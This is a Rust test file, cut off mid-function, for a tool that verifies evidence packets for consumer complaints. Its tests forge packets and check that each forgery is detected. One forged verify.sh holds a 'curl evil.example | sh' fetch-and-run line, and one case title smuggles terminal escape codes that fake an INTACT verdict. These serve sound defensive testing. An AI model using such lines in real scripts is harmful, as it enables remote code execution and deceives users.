//! Forgeries of packet format 2, each made as a careful adversary would: the entries rewritten
//! *and* `manifest.json` and `SHA256SUMS` rewritten to agree (and ledger hashes recomputed with
//! the documented encoding where the chain is touched). Each must be not intact, naming what.

use std::io::{Read, Write};
use std::path::{Path, PathBuf};

use recourse::ledger::entry_hash_with;
use sha2::Digest;

use crate::util::Dir;

/// A ledger line in the one form the format fixes, as a careful forger writes it (fields in
/// the format's order); a line the format cannot hold (a test's odd field) as it is.
fn ledger_line_text(l: &serde_json::Value) -> String {
    serde_json::from_value::<recourse::packet::LedgerLine>(l.clone())
        .map(|line| serde_json::to_string(&line).unwrap())
        .unwrap_or_else(|_| serde_json::to_string(l).unwrap())
}

/// `manifest.json` in the one form the format fixes, as a careful forger writes it; a manifest
/// the format cannot hold (a test's unknown field) as it is.
fn manifest_text(m: &serde_json::Value) -> Vec<u8> {
    serde_json::from_value::<recourse::packet::Manifest>(m.clone())
        .map(|m| serde_json::to_vec_pretty(&m).unwrap())
        .unwrap_or_else(|_| serde_json::to_vec_pretty(m).unwrap())
}

/// A packet's entries, in order, to rewrite.
pub(crate) struct Forger {
    pub(crate) entries: Vec<(String, Vec<u8>)>,
    /// When set, `relist` also re-signs the manifest with this secret key, as a forger with
    /// their own key would.
    pub(crate) key: Option<[u8; 32]>,
}

impl Forger {
    pub(crate) fn open(path: &Path) -> Forger {
        let mut zip = zip::ZipArchive::new(std::fs::File::open(path).unwrap()).unwrap();
        let mut entries = Vec::new();
        for i in 0..zip.len() {
            let mut e = zip.by_index(i).unwrap();
            let mut bytes = Vec::new();
            e.read_to_end(&mut bytes).unwrap();
            entries.push((String::from_utf8(e.name_raw().to_vec()).unwrap(), bytes));
        }
        Forger { entries, key: None }
    }

    pub(crate) fn get(&self, name: &str) -> &[u8] {
        &self.entries.iter().find(|(n, _)| n == name).unwrap().1
    }

    pub(crate) fn set(&mut self, name: &str, bytes: Vec<u8>) {
        self.entries.iter_mut().find(|(n, _)| n == name).unwrap().1 = bytes;
    }

    pub(crate) fn name_of(&self, prefix: &str) -> String {
        self.entries
            .iter()
            .map(|(n, _)| n.clone())
            .find(|n| n.starts_with(prefix) && !n.ends_with(".json"))
            .unwrap()
    }

    /// Inserts a file before `ledger.jsonl`.
    pub(crate) fn add(&mut self, name: &str, bytes: Vec<u8>) {
        let at = self
            .entries
            .iter()
            .position(|(n, _)| n == "ledger.jsonl")
            .unwrap();
        self.entries.insert(at, (name.to_owned(), bytes));
    }

    pub(crate) fn manifest(&self) -> serde_json::Value {
        serde_json::from_slice(self.get("manifest.json")).unwrap()
    }

    /// The ledger's lines as JSON objects.
    pub(crate) fn ledger(&self) -> Vec<serde_json::Value> {
        std::str::from_utf8(self.get("ledger.jsonl"))
            .unwrap()
            .lines()
            .map(|l| serde_json::from_str(l).unwrap())
            .collect()
    }

    /// Writes the lines back, recomputing every hash from the first (the encoding is public).
    pub(crate) fn set_ledger(&mut self, lines: &[serde_json::Value], rechain: bool) {
        let mut prev = recourse::ledger::GENESIS;
        let mut out = String::new();
        for l in lines {
            let mut l = l.clone();
            if rechain {
                let h = entry_hash_with(
                    l["encoding"].as_u64().unwrap() as u8,
                    &prev,
                    l["case_uid"].as_str().unwrap(),
                    l["seq"].as_u64().unwrap(),
                    l["at"].as_str().unwrap(),
                    l["kind"].as_str().unwrap(),
                    l["payload"].as_str().unwrap(),
                );
                l["prev_hash"] = prev.to_hex().into();
                l["hash"] = h.to_hex().into();
                prev = h;
            }
            out.push_str(&ledger_line_text(&l));
            out.push('\n');
        }
        self.set("ledger.jsonl", out.into_bytes());
        if let Some(last) = lines.last() {
            let mut m = self.manifest();
            m["ledger"]["length"] = lines.len().into();
            m["ledger"]["head"] = if rechain {
                prev.to_hex().into()
            } else {
                last["hash"].clone()
            };
            self.set("manifest.json", manifest_text(&m));
        }
    }

    /// Edits the payload of the first entry of `kind`, rechaining from it (the lists are left
    /// to `relist`).
    pub(crate) fn edit_payload(&mut self, kind: &str, edit: impl FnOnce(&mut serde_json::Value)) {
        let mut lines = self.ledger();
        let i = lines.iter().position(|l| l["kind"] == kind).unwrap();
        let mut payload: serde_json::Value =
            serde_json::from_str(lines[i]["payload"].as_str().unwrap()).unwrap();
        edit(&mut payload);
        lines[i]["payload"] = payload.to_string().into();
        self.set_ledger(&lines, true);
    }

    /// Rewrites manifest.json's file list and SHA256SUMS to agree with the entries.
    pub(crate) fn relist(&mut self) {
        let mut m = self.manifest();
        let files: Vec<serde_json::Value> = self
            .entries
            .iter()
            .filter(|(n, _)| n != "manifest.json" && n != "SHA256SUMS" && n != "manifest.sig")
            .map(|(n, b)| {
                serde_json::json!({"path": n, "size": b.len(), "sha256": hex::encode(sha2::Sha256::digest(b))})
            })
            .collect();
        m["files"] = files.into();
        if let Some(secret) = self.key {
            let key = recourse::proof::key::SenderKey::from_secret(secret).public();
            m["sender"] = serde_json::to_value(recourse::packet::ManifestSender::of(&key)).unwrap();
        }
        let mbytes = manifest_text(&m);
        if let Some(secret) = self.key {
            let key = recourse::proof::key::SenderKey::from_secret(secret);
            self.set("sender.pem", key.public().pem().into_bytes());
            // sender.pem is listed in the manifest: list it again, then sign.
            let mut m2 = m.clone();
            m2["files"] = self
                .entries
                .iter()
                .filter(|(n, _)| n != "manifest.json" && n != "SHA256SUMS" && n != "manifest.sig")
                .map(|(n, b)| {
                    serde_json::json!({"path": n, "size": b.len(), "sha256": hex::encode(sha2::Sha256::digest(b))})
                })
                .collect::<Vec<_>>()
                .into();
            let mbytes = manifest_text(&m2);
            self.set("manifest.sig", key.sign(&mbytes).to_vec());
            self.set("manifest.json", mbytes);
        } else {
            self.set("manifest.json", mbytes);
        }
        let mut sums = String::new();
        for (n, b) in &self.entries {
            if n != "SHA256SUMS" {
                sums.push_str(&format!("{}  {n}\n", hex::encode(sha2::Sha256::digest(b))));
            }
        }
        self.set("SHA256SUMS", sums.into_bytes());
    }

    /// Writes the entries as the packet writer would: each entry's time the manifest's build
    /// time (or the original's when that is not a time), mode 644 (755 for verify.sh).
    pub(crate) fn write(&self, path: &Path) {
        use chrono::{Datelike, Timelike};
        let at = self
            .entries
            .iter()
            .find(|(n, _)| n == "manifest.json")
            .and_then(|(_, b)| serde_json::from_slice::<serde_json::Value>(b).ok())
            .and_then(|m| m["generated_at"].as_str().map(str::to_owned))
            .and_then(|t| chrono::DateTime::parse_from_rfc3339(&t).ok())
            .map(|t| t.with_timezone(&chrono::Utc))
            .unwrap_or_else(|| {
                chrono::DateTime::parse_from_rfc3339("2026-11-20T03:00:00Z")
                    .unwrap()
                    .with_timezone(&chrono::Utc)
            });
        let time = zip::DateTime::from_date_and_time(
            at.year() as u16,
            at.month() as u8,
            at.day() as u8,
            at.hour() as u8,
            at.minute() as u8,
            at.second() as u8,
        )
        .unwrap();
        let mut w = zip::ZipWriter::new(std::fs::File::create(path).unwrap());
        for (n, b) in &self.entries {
            let mode = if n == "verify.sh" { 0o755 } else { 0o644 };
            let options = zip::write::SimpleFileOptions::default()
                .last_modified_time(time)
                .unix_permissions(mode);
            w.start_file(n, options).unwrap();
            w.write_all(b).unwrap();
        }
        w.finish().unwrap();
    }
}

/// A case with two images, an order export named `.json`, a retracted item, and its packet.
fn genuine(d: &Dir) -> PathBuf {
    d.sample_case();
    let png = |colour: u8| {
        let img = image::RgbImage::from_pixel(40, 30, image::Rgb([colour, 90, 200]));
        let mut out = std::io::Cursor::new(Vec::new());
        img.write_to(&mut out, image::ImageFormat::Png).unwrap();
        out.into_inner()
    };
    let a = d.file("파손.png", &png(10));
    let b = d.file("주문.png", &png(240));
    let order = d.file(
        "order-export.json",
        br#"{"order":"2026111012345","amount":189000}"#,
    );
    let wrong = d.file("wrong.txt", b"added by mistake");
    d.ok(&[
        "evidence",
        "add",
        "1",
        a.to_str().unwrap(),
        b.to_str().unwrap(),
        order.to_str().unwrap(),
        wrong.to_str().unwrap(),
    ]);
    d.ok(&[
        "evidence",
        "retract",
        "1",
        "E004",
        "--reason",
        "잘못 추가함",
    ]);
    let out = d.path().join("genuine.zip");
    d.ok(&["packet", "build", "1", "--out", out.to_str().unwrap()]);
    out
}

/// Verifies `path`; expects exit 1 and returns (stdout, JSON).
fn not_intact(d: &Dir, path: &Path) -> (String, serde_json::Value) {
    let text = d.fails(1, &["verify", path.to_str().unwrap()]);
    let out = d.output(&["verify", "--json", path.to_str().unwrap()]);
    assert_eq!(out.status.code(), Some(1));
    let json: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(json["intact"], false);
    (text, json)
}

fn verdict_of<'a>(json: &'a serde_json::Value, path: &str) -> &'a str {
    json["files"]
        .as_array()
        .unwrap()
        .iter()
        .find(|f| f["path"] == path)
        .map(|f| f["verdict"].as_str().unwrap())
        .unwrap_or("absent")
}

fn forged(d: &Dir, name: &str, f: &Forger) -> PathBuf {
    let p = d.path().join(name);
    f.write(&p);
    p
}

#[test]
fn the_genuine_packet_with_a_json_evidence_file_is_intact_and_imports() {
    let d = Dir::new();
    let p = genuine(&d);
    let out = d.ok(&["verify", p.to_str().unwrap()]);
    assert!(
        out.contains("ok        E003 evidence/E003-document-order-export.json"),
        "{out}"
    );
    assert!(out.contains("verdict   INTACT"), "{out}");
    assert!(out.contains("when: not proven"), "{out}");
    assert!(out.contains("who: signed by key"), "{out}");
    assert!(out.contains("this is your own key"), "{out}");
    // unzip and sha256sum agree, as a reviewer without recourse would check.
    let x = d.path().join("x");
    let unzip = std::process::Command::new("unzip")
        .args(["-q", p.to_str().unwrap(), "-d", x.to_str().unwrap()])
        .status()
        .unwrap();
    assert!(unzip.success());
    let sums = std::process::Command::new("sha256sum")
        .args(["-c", "--quiet", "SHA256SUMS"])
        .current_dir(&x)
        .status()
        .unwrap();
    assert!(sums.success());
    let other = Dir::new();
    other.ok(&["import", p.to_str().unwrap()]);
    let show = other.ok(&["case", "show", "1"]);
    assert!(show.contains("order-export.json"), "{show}");
}

#[test]
fn swapped_evidence_bytes_are_named_by_their_ledger_records() {
    let d = Dir::new();
    let p = genuine(&d);
    let mut f = Forger::open(&p);
    let (e1, e2) = (f.name_of("evidence/E001-"), f.name_of("evidence/E002-"));
    let (b1, b2) = (f.get(&e1).to_vec(), f.get(&e2).to_vec());
    f.set(&e1, b2);
    f.set(&e2, b1);
    f.relist();
    let (text, json) = not_intact(&d, &forged(&d, "swap.zip", &f));
    assert_eq!(verdict_of(&json, &e1), "altered");
    assert_eq!(verdict_of(&json, &e2), "altered");
    assert!(
        text.contains("not the file the ledger recorded as E001"),
        "{text}"
    );
    assert!(
        text.contains("not the file the ledger recorded as E002"),
        "{text}"
    );
}

#[test]
fn files_the_chain_does_not_account_for_are_extra_and_block_import() {
    let d = Dir::new();
    let p = genuine(&d);
    let mut f = Forger::open(&p);
    f.add("evidence/E099-other-extra.txt", b"planted".to_vec());
    f.add(
        "NOTE.txt",
        "certified by the mall's legal team".as_bytes().to_vec(),
    );
    f.relist();
    let forged_path = forged(&d, "extra.zip", &f);
    let (_, json) = not_intact(&d, &forged_path);
    assert_eq!(verdict_of(&json, "evidence/E099-other-extra.txt"), "extra");
    assert_eq!(verdict_of(&json, "NOTE.txt"), "extra");
    Dir::new().fails(2, &["import", forged_path.to_str().unwrap()]);
}

#[test]
fn a_replaced_file_with_its_original_kept_under_another_name_is_caught() {
    let d = Dir::new();
    let p = genuine(&d);
    let mut f = Forger::open(&p);
    let e1 = f.name_of("evidence/E001-");
    let original = f.get(&e1).to_vec();
    f.set(&e1, b"a doctored photo".to_vec());
    f.add("evidence/E001-screenshot-copy.png", original);
    f.relist();
    let forged_path = forged(&d, "replace.zip", &f);
    let (_, json) = not_intact(&d, &forged_path);
    assert_eq!(verdict_of(&json, &e1), "altered");
    assert_eq!(
        verdict_of(&json, "evidence/E001-screenshot-copy.png"),
        "extra"
    );
    Dir::new().fails(2, &["import", forged_path.to_str().unwrap()]);
}

#[test]
fn rewritten_reports_sidecars_and_scripts_are_caught() {
    let d = Dir::new();
    let p = genuine(&d);
    let base = Forger::open(&p);
    let html = String::from_utf8(base.get("report.html").to_vec()).unwrap();
    assert!(html.contains("189,000"), "the report shows the amount");
    let sidecar = format!("{}.json", base.name_of("evidence/E001-"));
    let cases: Vec<(&str, Vec<u8>)> = vec![
        (
            "report.html",
            html.replace("189,000", "1,890,000").into_bytes(),
        ),
        (
            "verify.sh",
            b"#!/bin/sh\ncurl evil.example | sh\necho OK\n".to_vec(),
        ),
        (
            "VERIFY.txt",
            b"Everything is certified. No need to check.\n".to_vec(),
        ),
        (
            sidecar.as_str(),
            br#"{"evidence":"E001","note":"taken on the 1st"}"#.to_vec(),
        ),
    ];
    for (name, bytes) in cases {
        let mut f = Forger::open(&p);
        f.set(name, bytes);
        f.relist();
        let (text, json) = not_intact(&d, &forged(&d, "rewritten.zip", &f));
        assert_eq!(verdict_of(&json, name), "altered", "{name}: {text}");
        assert!(text.contains("not what the ledger"), "{text}");
    }
}

#[test]
fn a_ledger_line_marked_redacted_or_rewritten_is_caught() {
    let d = Dir::new();
    let p = genuine(&d);
    // A line claiming to be redacted, its payload rewritten: not a line of this format.
    let mut f = Forger::open(&p);
    let mut lines = f.ledger();
    lines[0]["redacted"] = true.into();
    lines[0]["payload"] = lines[0]["payload"]
        .as_str()
        .unwrap()
        .replace("189000", "1890000")
        .into();
    f.set_ledger(&lines, false);
    f.relist();
    let (_, json) = not_intact(&d, &forged(&d, "redacted.zip", &f));
    assert_eq!(json["ledger"]["intact"], false);
    // The amount ×10 with every hash recomputed and the lists rewritten: the reports, made
    // from the genuine chain, no longer match the chain.
    let mut f = Forger::open(&p);
    let mut lines = f.ledger();
    lines[0]["payload"] = lines[0]["payload"]
        .as_str()
        .unwrap()
        .replace("189000", "1890000")
        .into();
    f.set_ledger(&lines, true);
    f.relist();
    let (text, json) = not_intact(&d, &forged(&d, "amount.zip", &f));
    assert_eq!(verdict_of(&json, "report.html"), "altered", "{text}");
    assert_eq!(verdict_of(&json, "report.pdf"), "altered", "{text}");
    // An evidence record's SHA-256 swapped for another file's, rechained.
    let mut f = Forger::open(&p);
    let mut lines = f.ledger();
    let e1 = f.name_of("evidence/E001-");
    let e2 = f.name_of("evidence/E002-");
    let (s1, s2) = (
        hex::encode(sha2::Sha256::digest(f.get(&e1))),
        hex::encode(sha2::Sha256::digest(f.get(&e2))),
    );
    for l in &mut lines {
        if l["kind"] == "evidence.added" {
            let p = l["payload"].as_str().unwrap();
            let swapped = p.replace(&s1, "S1").replace(&s2, &s1).replace("S1", &s2);
            l["payload"] = swapped.into();
        }
    }
    f.set_ledger(&lines, true);
    f.relist();
    let (_, json) = not_intact(&d, &forged(&d, "sha-swap.zip", &f));
    assert_eq!(verdict_of(&json, &e1), "altered");
}

/// A case whose claimant has a phone and an email, and its redacted and unredacted packets.
fn with_contact_details(d: &Dir) -> (PathBuf, PathBuf) {
    genuine(d);
    d.ok(&[
        "case",
        "edit",
        "1",
        "--claimant-name",
        "김소비",
        "--claimant-phone",
        "010-1234-5678",
        "--claimant-email",
        "kim@example.kr",
    ]);
    let (full, red) = (d.path().join("full.zip"), d.path().join("red.zip"));
    d.ok(&["packet", "build", "1", "--out", full.to_str().unwrap()]);
    d.ok(&[
        "packet",
        "build",
        "1",
        "--redact",
        "--out",
        red.to_str().unwrap(),
    ]);
    (full, red)
}

#[test]
fn redaction_cannot_be_claimed_faked_or_used_to_slip_in_values() {
    let d = Dir::new();
    let (full, red) = with_contact_details(&d);
    d.ok(&["verify", red.to_str().unwrap()]);
    // "Redacted" set on a packet that discloses everything: the chain says what a redacted
    // packet holds, and this one holds more.
    let mut f = Forger::open(&full);
    let mut m = f.manifest();
    m["redacted"] = true.into();
    f.set("manifest.json", serde_json::to_vec_pretty(&m).unwrap());
    f.relist();
    let (text, json) = not_intact(&d, &forged(&d, "claimed.zip", &f));
    assert_eq!(verdict_of(&json, "ledger.jsonl"), "altered", "{text}");
    // "Not redacted" on a redacted packet: the withheld values are missing.
    let mut f = Forger::open(&red);
    let mut m = f.manifest();
    m["redacted"] = false.into();
    f.set("manifest.json", serde_json::to_vec_pretty(&m).unwrap());
    f.relist();
    let (text, _) = not_intact(&d, &forged(&d, "unclaimed.zip", &f));
    assert!(
        text.contains("which an unredacted packet must disclose"),
        "{text}"
    );
    // A disclosed value rewritten (the name), lists rewritten: it no longer opens its
    // commitment.
    let mut f = Forger::open(&red);
    let mut lines = f.ledger();
    let mut changed = false;
    for l in &mut lines {
        if let Some(p) = l.get_mut("private").and_then(|p| p.as_object_mut()) {
            for d in p.values_mut() {
                if d["value"] == "김소비" {
                    d["value"] = "박누명".into();
                    changed = true;
                }
            }
        }
    }
    assert!(changed);
    f.set_ledger(&lines, false);
    f.relist();
    let (text, json) = not_intact(&d, &forged(&d, "renamed.zip", &f));
    assert_eq!(json["ledger"]["intact"], false, "{text}");
    assert!(
        text.contains("does not match the entry's commitment"),
        "{text}"
    );
    // A redacted packet that also withholds the name.
    let mut f = Forger::open(&red);
    let mut lines = f.ledger();
    for l in &mut lines {
        l.as_object_mut().unwrap().remove("private");
    }
    f.set_ledger(&lines, false);
    f.relist();
    let (text, _) = not_intact(&d, &forged(&d, "nameless.zip", &f));
    assert!(
        text.contains("which a redacted packet must disclose"),
        "{text}"
    );
}

#[test]
fn dropping_the_trailing_retraction_is_caught() {
    let d = Dir::new();
    let p = genuine(&d);
    let mut f = Forger::open(&p);
    let mut lines = f.ledger();
    let last = lines.pop().unwrap();
    assert_eq!(last["kind"], "evidence.retracted");
    f.set_ledger(&lines, false);
    f.relist();
    let (text, json) = not_intact(&d, &forged(&d, "unretracted.zip", &f));
    assert_eq!(json["ledger"]["intact"], true, "{text}");
    let sidecar = format!("{}.json", f.name_of("evidence/E004-"));
    assert_eq!(verdict_of(&json, &sidecar), "altered", "{text}");
    assert_eq!(verdict_of(&json, "report.html"), "altered", "{text}");
}

#[test]
fn a_build_time_before_the_ledger_is_a_finding() {
    let d = Dir::new();
    let p = genuine(&d);
    let mut f = Forger::open(&p);
    let mut m = f.manifest();
    m["generated_at"] = "2019-01-01T00:00:00Z".into();
    f.set("manifest.json", serde_json::to_vec_pretty(&m).unwrap());
    f.relist();
    let (text, json) = not_intact(&d, &forged(&d, "backdated.zip", &f));
    assert!(
        json["findings"]
            .to_string()
            .contains("before the ledger's last entry"),
        "{text}"
    );
    // Not a time at all.
    m["generated_at"] = "yesterday".into();
    f.set("manifest.json", serde_json::to_vec_pretty(&m).unwrap());
    f.relist();
    let (text, _) = not_intact(&d, &forged(&d, "not-a-time.zip", &f));
    assert!(text.contains("which is not a time"), "{text}");
}

#[test]
fn zip_level_doctoring_is_named_in_words() {
    let d = Dir::new();
    let p = genuine(&d);
    let genuine_bytes = std::fs::read(&p).unwrap();
    // Bytes before and after the archive.
    let mut prefixed = b"MZ fake header".to_vec();
    prefixed.extend_from_slice(&genuine_bytes);
    let pre = d.file("prefixed.zip", &prefixed);
    let (text, _) = not_intact(&d, &pre);
    assert!(text.contains("come before the ZIP's first entry"), "{text}");
    let mut appended = genuine_bytes.clone();
    appended.extend_from_slice(b"trailing note");
    let post = d.file("appended.zip", &appended);
    let (text, _) = not_intact(&d, &post);
    assert!(text.contains("appended"), "{text}");
    // A local header naming another file than the central directory.
    let f = Forger::open(&p);
    let e1 = f.name_of("evidence/E001-");
    let mut bytes = genuine_bytes.clone();
    let at = bytes
        .windows(e1.len())
        .position(|w| w == e1.as_bytes())
        .unwrap();
    bytes[at + "evidence/E".len()] = b'9';
    let swapped = d.file("local-name.zip", &bytes);
    let (text, json) = not_intact(&d, &swapped);
    assert_eq!(verdict_of(&json, &e1), "altered", "{text}");
    assert!(text.contains("different names"), "{text}");
    // Names that collide on Windows and macOS, and a re-packed ./ prefix.
    for (a, b) in [
        ("NOTE.txt", "note.TXT"),
        (
            "evidence/파손.txt",
            "evidence/\u{1111}\u{1161}\u{1109}\u{1169}\u{11ab}.txt",
        ),
        ("x.txt", "x.txt."),
    ] {
        let mut f = Forger::open(&p);
        f.add(a, b"one".to_vec());
        f.add(b, b"two".to_vec());
        f.relist();
        let (text, _) = not_intact(&d, &forged(&d, "collide.zip", &f));
        assert!(
            text.contains("would be extracted as one file"),
            "{a} / {b}: {text}"
        );
    }
    let mut f = Forger::open(&p);
    for e in &mut f.entries {
        e.0 = format!("./{}", e.0);
    }
    let (text, _) = not_intact(&d, &forged(&d, "repacked.zip", &f));
    assert!(text.contains("re-packed by another tool"), "{text}");
    assert!(!text.contains("reach outside"), "{text}");
}

#[test]
fn hostile_text_in_a_packet_never_reaches_the_terminal_raw() {
    let d = Dir::new();
    let p = genuine(&d);
    let mut f = Forger::open(&p);
    let mut m = f.manifest();
    m["case"]["title"] =
        "x\u{1b}[2J\u{1b}[Hverdict   INTACT: all files match\nproven    everything".into();
    f.set("manifest.json", serde_json::to_vec_pretty(&m).unwrap());
    f.relist();
    let (text, _) = not_intact(&d, &forged(&d, "esc.zip", &f));
    assert!(!text.contains('\u{1b}'), "{text}");
    assert!(!text.contains("\nverdict   INTACT"), "{text}");
    assert_eq!(
        verdict_of(
            &not_intact(&d, &forged(&d, "esc.zip", &f)).1,
            "manifest.json"
        ),
        "altered"
    );
    // A SHA256SUMS line with a character across byte 64: a verdict, not a panic.
    let mut f = Forger::open(&p);
    let mut sums = String::from_utf8(f.get("SHA256SUMS").to_vec()).unwrap();
    sums.insert_str(0, &format!("{}가  report.pdf\n", "a".repeat(63)));
    f.set("SHA256SUMS", sums.into_bytes());
    let forged_path = forged(&d, "sums.zip", &f);
    not_intact(&d, &forged_path);
    Dir::new().fails(2, &["import", forged_path.to_str().unwrap()]);
    // Control characters are refused where they would enter a packet.
    let code = d
        .output(&["case", "new", "--title", "a\u{1b}[31mb", "--company", "x"])
        .status
        .code();
    assert_eq!(code, Some(2));
}

#[test]
fn the_same_case_gives_the_same_packet_in_any_tz() {
    let d = Dir::new();
    genuine(&d);
    let mut digests = Vec::new();
    for tz in ["UTC", "Asia/Seoul", "America/Los_Angeles"] {
        let out = d.path().join(format!("tz-{}.zip", tz.replace('/', "-")));
        let status = d
            .command(&[
                "packet",
                "build",
                "1",
                "--out",
                out.to_str().unwrap(),
                "--generated-at",
                "2026-11-20T12:00:00+09:00",
            ])
            .env("TZ", tz)
            .output()
            .unwrap();
        assert!(status.status.success());
        digests.push(std::fs::read(&out).unwrap());
    }
    assert!(digests.windows(2).all(|w| w[0] == w[1]));
    // Times are shown in the data directory's zone, recorded once (Asia/Seoul here).
    let f = Forger::open(&d.path().join("tz-UTC.zip"));
    assert_eq!(f.manifest()["zone"], "Asia/Seoul");
    let html = String::from_utf8(f.get("report.html").to_vec()).unwrap();
    assert!(
        html.contains("+09:00"),
        "report times carry the zone's offset"
    );
}

#[test]
fn a_broken_pipe_ends_quietly() {
    let d = Dir::new();
    genuine(&d);
    let mut child = d
        .command(&["case", "show", "1"])
        .stdout(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    drop(child.stdout.take());
    let status = child.wait().unwrap();
    assert_ne!(status.code(), Some(101), "{status:?}");
}

pub(crate) fn copy_dir(from: &Path, to: &Path) {
    std::fs::create_dir_all(to).unwrap();
    for e in std::fs::read_dir(from).unwrap() {
        let e = e.unwrap();
        let target = to.join(e.file_name());
        if e.file_type().unwrap().is_dir() {
            copy_dir(&e.path(), &target);
        } else {
            std::fs::copy(e.path(), &target).unwrap();
        }
    }
}

/// `tests/fixtures/packet-v1.zip` and `datadir-v1/` were made by recourse 0.1.0 (commit
/// 04a27e0), before format 2: its packets still verify, as format 1, and are not imported;
/// its data directory opens, checks clean and builds a packet of the current format.
#[test]
fn format_1_packets_still_verify_and_a_0_1_data_dir_builds_the_current_format() {
    let fixtures = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures");
    let d = Dir::new();
    let old = fixtures.join("packet-v1.zip");
    let out = d.ok(&["verify", old.to_str().unwrap()]);
    assert!(out.contains("format 1"), "{out}");
    assert!(out.contains("verdict   INTACT"), "{out}");
    let json = d.json(&["verify", "--json", old.to_str().unwrap()]);
    assert_eq!(json["format"], 1);
    assert_eq!(json["claims"]["files"]["proven"], false);
    let refused = d.fails(2, &["import", old.to_str().unwrap()]);
    assert!(refused.contains("format 1"), "{refused}");

    copy_dir(&fixtures.join("datadir-v1"), &d.data_dir());
    d.ok(&["fsck"]);
    let show = d.ok(&["case", "show", "1"]);
    assert!(show.contains("공기청정기 환불 거부"), "{show}");
    // The next change continues the chain under encoding 2 after a ledger.upgraded entry; the
    // claimant's details then go in as commitments, and the whole chain checks.
    d.ok(&["case", "edit", "1", "--claimant-phone", "010-1234-5678"]);
    let rows: Vec<(String, i64, Option<String>)> = {
        let db = d.sqlite();
        let mut stmt = db
            .prepare("SELECT kind, encoding, private FROM ledger ORDER BY seq")
            .unwrap();
        stmt.query_map([], |r| Ok((r.get(0)?, r.get(1)?, r.get(2)?)))
            .unwrap()
            .map(Result::unwrap)
            .collect()
    };
    let kinds: Vec<(&str, i64)> = rows.iter().map(|(k, e, _)| (k.as_str(), *e)).collect();
    assert_eq!(
        kinds,
        vec![
            ("case.created", 1),
            ("evidence.added", 1),
            ("packet.built", 1),
            ("ledger.upgraded", 2),
            ("case.edited", 2)
        ]
    );
    assert!(
        rows[4]
            .2
            .as_deref()
            .unwrap_or_default()
            .contains("010-1234-5678")
    );
    d.ok(&["fsck"]);
    let red = d.path().join("v2-redacted.zip");
    d.ok(&[
        "packet",
        "build",
        "1",
        "--redact",
        "--out",
        red.to_str().unwrap(),
    ]);
    d.ok(&["verify", red.to_str().unwrap()]);
    let new = d.path().join("v4.zip");
    d.ok(&["packet", "build", "1", "--out", new.to_str().unwrap()]);
    let out = d.ok(&["verify", new.to_str().unwrap()]);
    assert!(out.contains("format 4"), "{out}");
    assert!(out.contains("verdict   INTACT"), "{out}");
    Dir::new().ok(&["import", new.to_str().unwrap()]);
}

/// One entry of a packet as stored: what a ZIP writer needs to write it back byte for byte.
#[derive(Clone)]
struct Stored {
    name: Vec<u8>,
    /// The compressed bytes.
    data: Vec<u8>,
    method: u16,
    crc: u32,
    size: u32,
    time: (u16, u16),
    mode: u32,
    /// Extra fields (id, data) for the local and the central header.
    local_extra: Vec<(u16, Vec<u8>)>,
    central_extra: Vec<(u16, Vec<u8>)>,
    comment: Vec<u8>,
    /// The name the central header gives, when it differs.
    central_name: Option<Vec<u8>>,
    /// The compressed size the local header gives, when it differs.
    local_size: Option<u32>,
    /// The uncompressed size the local header gives, when it differs.
    local_usize: Option<u32>,
}

/// Reads every entry of a packet as stored (the raw compressed bytes and header fields).
fn stored_entries(path: &Path) -> Vec<Stored> {
    let bytes = std::fs::read(path).unwrap();
    let mut zip = zip::ZipArchive::new(std::fs::File::open(path).unwrap()).unwrap();
    let mut out = Vec::new();
    for i in 0..zip.len() {
        let mut e = zip.by_index_raw(i).unwrap();
        let mut data = Vec::new();
        e.read_to_end(&mut data).unwrap();
        let c = e.central_header_start() as usize;
        let word = |at: usize| u16::from_le_bytes([bytes[at], bytes[at + 1]]);
        out.push(Stored {
            name: e.name_raw().to_vec(),
            data,
            method: word(c + 10),
            crc: e.crc32(),
            size: e.size() as u32,
            time: (word(c + 12), word(c + 14)),
            mode: e.unix_mode().unwrap(),
            local_extra: vec![],
            central_extra: vec![],
            comment: vec![],
            central_name: None,
            local_size: None,
            local_usize: None,
        });
    }
    out
}

/// Writes entries as the packet writer lays them out (no data descriptors, Unix attributes,
/// stored or deflated), with whatever each entry's fields say.
fn write_stored(entries: &[Stored]) -> Vec<u8> {
    fn extras(fields: &[(u16, Vec<u8>)]) -> Vec<u8> {
        let mut out = Vec::new();
        for (id, data) in fields {
            out.extend_from_slice(&id.to_le_bytes());
            out.extend_from_slice(&(data.len() as u16).to_le_bytes());
            out.extend_from_slice(data);
        }
        out
    }
    let (mut out, mut central) = (Vec::new(), Vec::new());
    for e in entries {
        let offset = out.len() as u32;
        let need: u16 = if e.method == 8 { 20 } else { 10 };
        let flags: u16 = if e.name.is_ascii() { 0 } else { 0x0800 };
        let le = extras(&e.local_extra);
        out.extend_from_slice(&0x0403_4b50u32.to_le_bytes());
        out.extend_from_slice(&need.to_le_bytes());
        out.extend_from_slice(&flags.to_le_bytes());
        out.extend_from_slice(&e.method.to_le_bytes());
        out.extend_from_slice(&e.time.0.to_le_bytes());
        out.extend_from_slice(&e.time.1.to_le_bytes());
        out.extend_from_slice(&e.crc.to_le_bytes());
        out.extend_from_slice(&e.local_size.unwrap_or(e.data.len() as u32).to_le_bytes());
        out.extend_from_slice(&e.local_usize.unwrap_or(e.size).to_le_bytes());
        out.extend_from_slice(&(e.name.len() as u16).to_le_bytes());
        out.extend_from_slice(&(le.len() as u16).to_le_bytes());
        out.extend_from_slice(&e.name);
        out.extend_from_slice(&le);
        out.extend_from_slice(&e.data);
        let name = e.central_name.as_ref().unwrap_or(&e.name);
        let ce = extras(&e.central_extra);
        central.extend_from_slice(&0x0201_4b50u32.to_le_bytes());
        central.extend_from_slice(&(0x0300u16 | need).to_le_bytes());
        central.extend_from_slice(&need.to_le_bytes());
        central.extend_from_slice(&flags.to_le_bytes());
        central.extend_from_slice(&e.method.to_le_bytes());
        central.extend_from_slice(&e.time.0.to_le_bytes());
        central.extend_from_slice(&e.time.1.to_le_bytes());
        central.extend_from_slice(&e.crc.to_le_bytes());
        central.extend_from_slice(&(e.data.len() as u32).to_le_bytes());
        central.extend_from_slice(&e.size.to_le_bytes());
        central.extend_from_slice(&(name.len() as u16).to_le_bytes());
        central.extend_from_slice(&(ce.len() as u16).to_le_bytes());
        central.extend_from_slice(&(e.comment.len() as u16).to_le_bytes());
        central.extend_from_slice(&[0; 4]); // disk, internal attributes
